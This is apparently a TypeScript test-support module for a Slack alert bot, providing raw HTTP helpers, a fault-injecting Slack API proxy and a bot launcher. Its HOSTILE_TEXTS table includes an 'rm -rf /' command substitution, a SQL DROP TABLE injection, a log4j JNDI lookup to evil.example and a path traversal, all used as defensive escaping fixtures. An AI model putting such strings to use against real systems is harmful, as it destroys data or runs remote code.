/**
 * Shared pieces of the reliability and security suites: hostile text, raw
 * HTTP requests (chunked, oversized, aborted), a guard for unhandled
 * rejections, a fault-injecting front for the Slack Web API, and a way to
 * run the real bot process. Everything stays on 127.0.0.1.
 */
import { type ChildProcess, spawn } from "node:child_process";
import { createServer, request, type Server } from "node:http";
import type { AddressInfo, Socket } from "node:net";
import type { FakePostHog, FakeRequest } from "../support/fake-posthog.js";
import { reapWithParent } from "../support/reaper.js";

export const sleep = (ms: number) => new Promise<void>((resolve) => setTimeout(resolve, ms));

export async function waitUntil(predicate: () => boolean, timeoutMs: number, what = "condition") {
  const deadline = Date.now() + timeoutMs;
  while (!predicate()) {
    if (Date.now() > deadline) throw new Error(`${what} not met within ${timeoutMs} ms`);
    await sleep(10);
  }
}

/**
 * Drops the faults still queued on the fake PostHog (its `reset()` would
 * also drop every alert). The queue is the fake's own internal list.
 */
export function clearPostHogFaults(posthog: FakePostHog): void {
  const queue = (posthog as unknown as { faults?: unknown[] }).faults;
  if (Array.isArray(queue)) queue.length = 0;
}

/** Requests that would change something in PostHog. */
export function writesTo(posthog: FakePostHog): FakeRequest[] {
  return posthog.requests.filter((r) => r.method !== "GET" && r.method !== "HEAD" && r.method !== "OPTIONS");
}

/** A 10,000-character string that pings if it is ever rendered unescaped. */
export const LONG_PINGS = "<!channel>".repeat(1000);

/**
 * Text an attacker (or an unlucky PostHog user) can put in an alert name,
 * an insight name or a breach description. Each one names what it tries.
 */
export const HOSTILE_TEXTS = {
  broadcast: "<!channel> <!here> <!everyone> wake up",
  bareMentions: "@channel @here @everyone look",
  userMention: "<@U0ANN0001> <#C0ALERTS01> <!subteam^S0TEAM01|@oncall>",
  link: "<https://evil.example|click here> and <http://evil.example/login>",
  dateToken: "<!date^1700000000^{date}|fake date>",
  markup: "*bold* _it_ ~strike~ `code` ```block``` > quote &lt; &amp; & < > |",
  backticks: "``````` ` `` `",
  entities: "&lt;!channel&gt; &amp;lt; &#60;!here&#62;",
  control: "bell\u0007 esc\u001b[31mred\u001b[0m nul\u0000 cr\r lf\n tab\t vt\u000b",
  rtl: "\u202Etxt.exe\u202C and \u2066isolated\u2069 \u200Fmark",
  zeroWidth: "a\u200Db\u200Bc\uFEFFd\u2060e 👨‍👩‍👧‍👦",
  loneHigh: "lone high \uD83D here",
  loneLow: "lone low \uDC00 here",
  endsInHighSurrogate: "ends badly \uD83D",
  combining: "Z̴̡̛̖͓̙͚̟͒̍̈́̚a̵̢̰̓l̷̞̈g̶̣̈́o̶̤̓ e\u0301\u0301\u0301\u0301",
  emoji: "🔥🚨💥 🏳️‍🌈 🇺🇳 👍🏽",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4j-style lookup is the hostile input here
  shell: "$(rm -rf /) `id` ; DROP TABLE alerts;-- ${jndi:ldap://evil.example/a} ../../etc/passwd",
  long: `${"A".repeat(9_990)}<!channel>`,
  longPings: LONG_PINGS,
  longMarkup: "*_~`".repeat(2_500),
};

/** Unbroken broadcast words, as Slack would read them with link_names. */
const BARE_BROADCAST = /(^|[^\w\u2060])@(channel|here|everyone)\b/i;

/** Every string in a JSON-like value, with its path. */
export function stringsIn(value: unknown, path = ""): Array<{ path: string; text: string }> {
  if (typeof value === "string") return [{ path, text: value }];
  if (Array.isArray(value)) return value.flatMap((v, i) => stringsIn(v, `${path}/${i}`));
  if (value && typeof value === "object") {
    return Object.entries(value).flatMap(([k, v]) => stringsIn(v, `${path}/${k}`));
  }
  return [];
}

/**
 * Places where a broadcast word appears unbroken in a payload. Input values
 * (what a form field is prefilled with) are not rendered, so they are skipped.
 */
export function bareBroadcasts(payload: unknown): string[] {
  return stringsIn(payload)
    .filter((s) => !s.path.endsWith("/initial_value") && BARE_BROADCAST.test(s.text))
    .map((s) => `${s.path}: ${s.text.slice(0, 80)}`);
}

/** Collects unhandled promise rejections while a test runs. */
export function watchUnhandledRejections() {
  const seen: unknown[] = [];
  const onRejection = (reason: unknown) => seen.push(reason);
  process.on("unhandledRejection", onRejection);
  return {
    seen,
    stop: () => process.off("unhandledRejection", onRejection),
  };
}

export interface RawResponse {
  status: number;
  headers: Record<string, string | string[] | undefined>;
  body: string;
  ms: number;
}

/**
 * One HTTP request with full control of the body: chunks are written one by
 * one (chunked encoding unless a content-length header is given). The
 * promise settles with the response, or with status 0 when the server closes
 * the connection without answering.
 */
export function rawRequest(
  url: string,
  options: {
    method?: string;
    headers?: Record<string, string | number>;
    chunks?: Array<string | Buffer>;
    /** Stop writing (without ending) after this many chunks, e.g. to test an early answer. */
    stopAfter?: number;
    timeoutMs?: number;
  } = {},
): Promise<RawResponse> {
  const started = performance.now();
  return new Promise((resolve) => {
    let settled = false;
    const done = (r: Omit<RawResponse, "ms">) => {
      if (settled) return;
      settled = true;
      resolve({ ...r, ms: performance.now() - started });
    };
    const req = request(
      url,
      { method: options.method ?? "POST", headers: options.headers ?? {}, agent: false },
      (res) => {
        const parts: Buffer[] = [];
        res.on("data", (c: Buffer) => parts.push(c));
        res.on("end", () =>
          done({ status: res.statusCode ?? 0, headers: res.headers, body: Buffer.concat(parts).toString() }),
        );
        res.on("error", () =>
          done({ status: res.statusCode ?? 0, headers: res.headers, body: Buffer.concat(parts).toString() }),
        );
      },
    );
    req.on("error", () => done({ status: 0, headers: {}, body: "" }));
    req.setTimeout(options.timeoutMs ?? 10_000, () => {
      req.destroy();
      done({ status: 0, headers: {}, body: "" });
    });
    const chunks = options.chunks ?? [];
    const limit = options.stopAfter ?? chunks.length;
    let i = 0;
    const writeNext = () => {
      while (i < limit) {
        const chunk = chunks[i++] as string | Buffer;
        if (!req.write(chunk)) {
          req.once("drain", writeNext);
          return;
        }
      }
      if (options.stopAfter === undefined) req.end();
    };
    writeNext();
  });
}

// ---------------------------------------------------------------------------
// A front for the Slack Web API with fault modes

export type FrontMode =
  /** Forward every call. */
  | "up"
  /** chat.postMessage and chat.update get HTTP 500 without reaching Slack. */
  | "down"
  /** Every second chat.postMessage/chat.update gets HTTP 500; the others are forwarded. */
  | "flaky"
  /** chat.postMessage and chat.update have their connection cut without an answer. */
  | "reset";

export interface SlackFront {
  apiUrl: string;
  mode: FrontMode;
  /**
   * The next this-many chat.postMessage calls are delivered to Slack at once,
   * but their answer is held for `slowAckMs`: Slack accepted the message, the
   * caller may have given up waiting.
   */
  slowAcks: number;
  slowAckMs: number;
  /** Latency added before chat.postMessage/chat.update reach Slack (the call is in flight meanwhile). */
  latencyMs: number;
  /** Calls answered by the front itself (faults), by method. */
  faults: Map<string, number>;
  /** Calls forwarded, by method. */
  forwarded: Map<string, number>;
  close(): Promise<void>;
}

const FAULTY_METHODS = new Set(["chat.postMessage", "chat.update"]);

/**
 * Sits between the bot and the fake Slack. Like the real Slack, a forwarded
 * call is completed even when the caller has gone away meanwhile (the bot
 * was killed): what Slack accepted stays accepted.
 */
export async function startSlackFront(targetApiUrl: string, mode: FrontMode = "up"): Promise<SlackFront> {
  const sockets = new Set<Socket>();
  let flip = 0;
  const front: SlackFront = {
    apiUrl: "",
    mode,
    slowAcks: 0,
    slowAckMs: 0,
    latencyMs: 0,
    faults: new Map(),
    forwarded: new Map(),
    close: async () => {
      for (const s of sockets) s.destroy();
      await new Promise<void>((resolve) => server.close(() => resolve()));
    },
  };
  const count = (map: Map<string, number>, key: string) => map.set(key, (map.get(key) ?? 0) + 1);
  const server: Server = createServer(async (req, res) => {
    const parts: Buffer[] = [];
    for await (const c of req) parts.push(c as Buffer);
    const method = (req.url ?? "").replace(/^\/api\//, "").split("?")[0] ?? "";
    const faulty = FAULTY_METHODS.has(method);
    if (faulty && front.latencyMs > 0) await sleep(front.latencyMs);
    if (faulty && front.mode === "reset") {
      count(front.faults, method);
      req.socket.destroy();
      return;
    }
    const fail = faulty && (front.mode === "down" || (front.mode === "flaky" && flip++ % 2 === 0));
    if (fail) {
      count(front.faults, method);
      res
        .writeHead(500, { "content-type": "application/json" })
        .end('{"ok":false,"error":"fake_http_error"}');
      return;
    }
    count(front.forwarded, method);
    const headers: Record<string, string> = {};
    for (const [k, v] of Object.entries(req.headers)) {
      if (typeof v === "string" && k !== "host" && k !== "connection" && k !== "content-length")
        headers[k] = v;
    }
    try {
      const upstream = await fetch(`${targetApiUrl}${method}`, {
        method: req.method ?? "POST",
        headers,
        body: Buffer.concat(parts),
      });
      const text = await upstream.text();
      if (method === "chat.postMessage" && front.slowAcks > 0) {
        front.slowAcks -= 1;
        await sleep(front.slowAckMs);
      }
      if (res.destroyed) return;
      res.writeHead(upstream.status, { "content-type": "application/json; charset=utf-8" }).end(text);
    } catch {
      if (!res.destroyed) res.writeHead(502).end();
    }
  });
  server.on("connection", (s) => {
    sockets.add(s);
    s.on("close", () => sockets.delete(s));
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", () => resolve()));
  front.apiUrl = `http://127.0.0.1:${(server.address() as AddressInfo).port}/api/`;
  return front;
}

// ---------------------------------------------------------------------------
// The real bot process

export const MAIN = new URL("../../dist/main.js", import.meta.url).pathname;

export interface BotProcess {
  child: ChildProcess;
  port: number;
  baseUrl: string;
  stdout: string[];
  stderr: string[];
  exited: { code: number | null; signal: NodeJS.Signals | null } | null;
  /** kill -9 */
  kill(): Promise<void>;
  /** SIGTERM, then wait for the exit. */
  stop(): Promise<void>;
}

/** A port that was free a moment ago (the bot must know its port even when it logs only warnings). */
export async function freePort(): Promise<number> {
  const server = createServer();
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", () => resolve()));
  const { port } = server.address() as AddressInfo;
  await new Promise<void>((resolve) => server.close(() => resolve()));
  return port;
}

/**
 * Starts `node dist/main.js` with exactly this environment (PORT "0" becomes
 * a free port) and waits until /healthz answers 200.
 */
export async function startBotProcess(env: Record<string, string>, timeoutMs = 15_000): Promise<BotProcess> {
  const port = env.PORT && env.PORT !== "0" ? Number(env.PORT) : await freePort();
  const child = spawn(process.execPath, [MAIN], {
    env: { PATH: process.env.PATH ?? "", ...env, PORT: String(port) },
    stdio: ["ignore", "pipe", "pipe"],
  });
  reapWithParent(child);
  const bot: BotProcess = {
    child,
    port,
    baseUrl: `http://127.0.0.1:${port}`,
    stdout: [],
    stderr: [],
    exited: null,
    kill: async () => {
      if (bot.exited) return;
      const gone = new Promise<void>((resolve) => child.once("exit", () => resolve()));
      child.kill("SIGKILL");
      await gone;
    },
    stop: async () => {
      if (bot.exited) return;
      const gone = new Promise<void>((resolve) => child.once("exit", () => resolve()));
      child.kill("SIGTERM");
      await gone;
    },
  };
  let partial = "";
  child.stdout?.on("data", (d: Buffer) => {
    partial += d.toString();
    const lines = partial.split("\n");
    partial = lines.pop() ?? "";
    for (const line of lines) bot.stdout.push(line);
  });
  child.stderr?.on("data", (d: Buffer) => bot.stderr.push(d.toString()));
  child.on("exit", (code, signal) => {
    bot.exited = { code, signal };
  });
  const deadline = Date.now() + timeoutMs;
  for (;;) {
    if (bot.exited) throw new Error(`the bot exited at start: ${bot.stderr.join("")}`);
    if (Date.now() > deadline) {
      await bot.kill();
      throw new Error(`the bot did not become ready: ${bot.stderr.join("")} ${bot.stdout.join("\n")}`);
    }
    const ok = await fetch(`${bot.baseUrl}/healthz`)
      .then((r) => r.status === 200)
      .catch(() => false);
    if (ok) return bot;
    await sleep(25);
  }
}
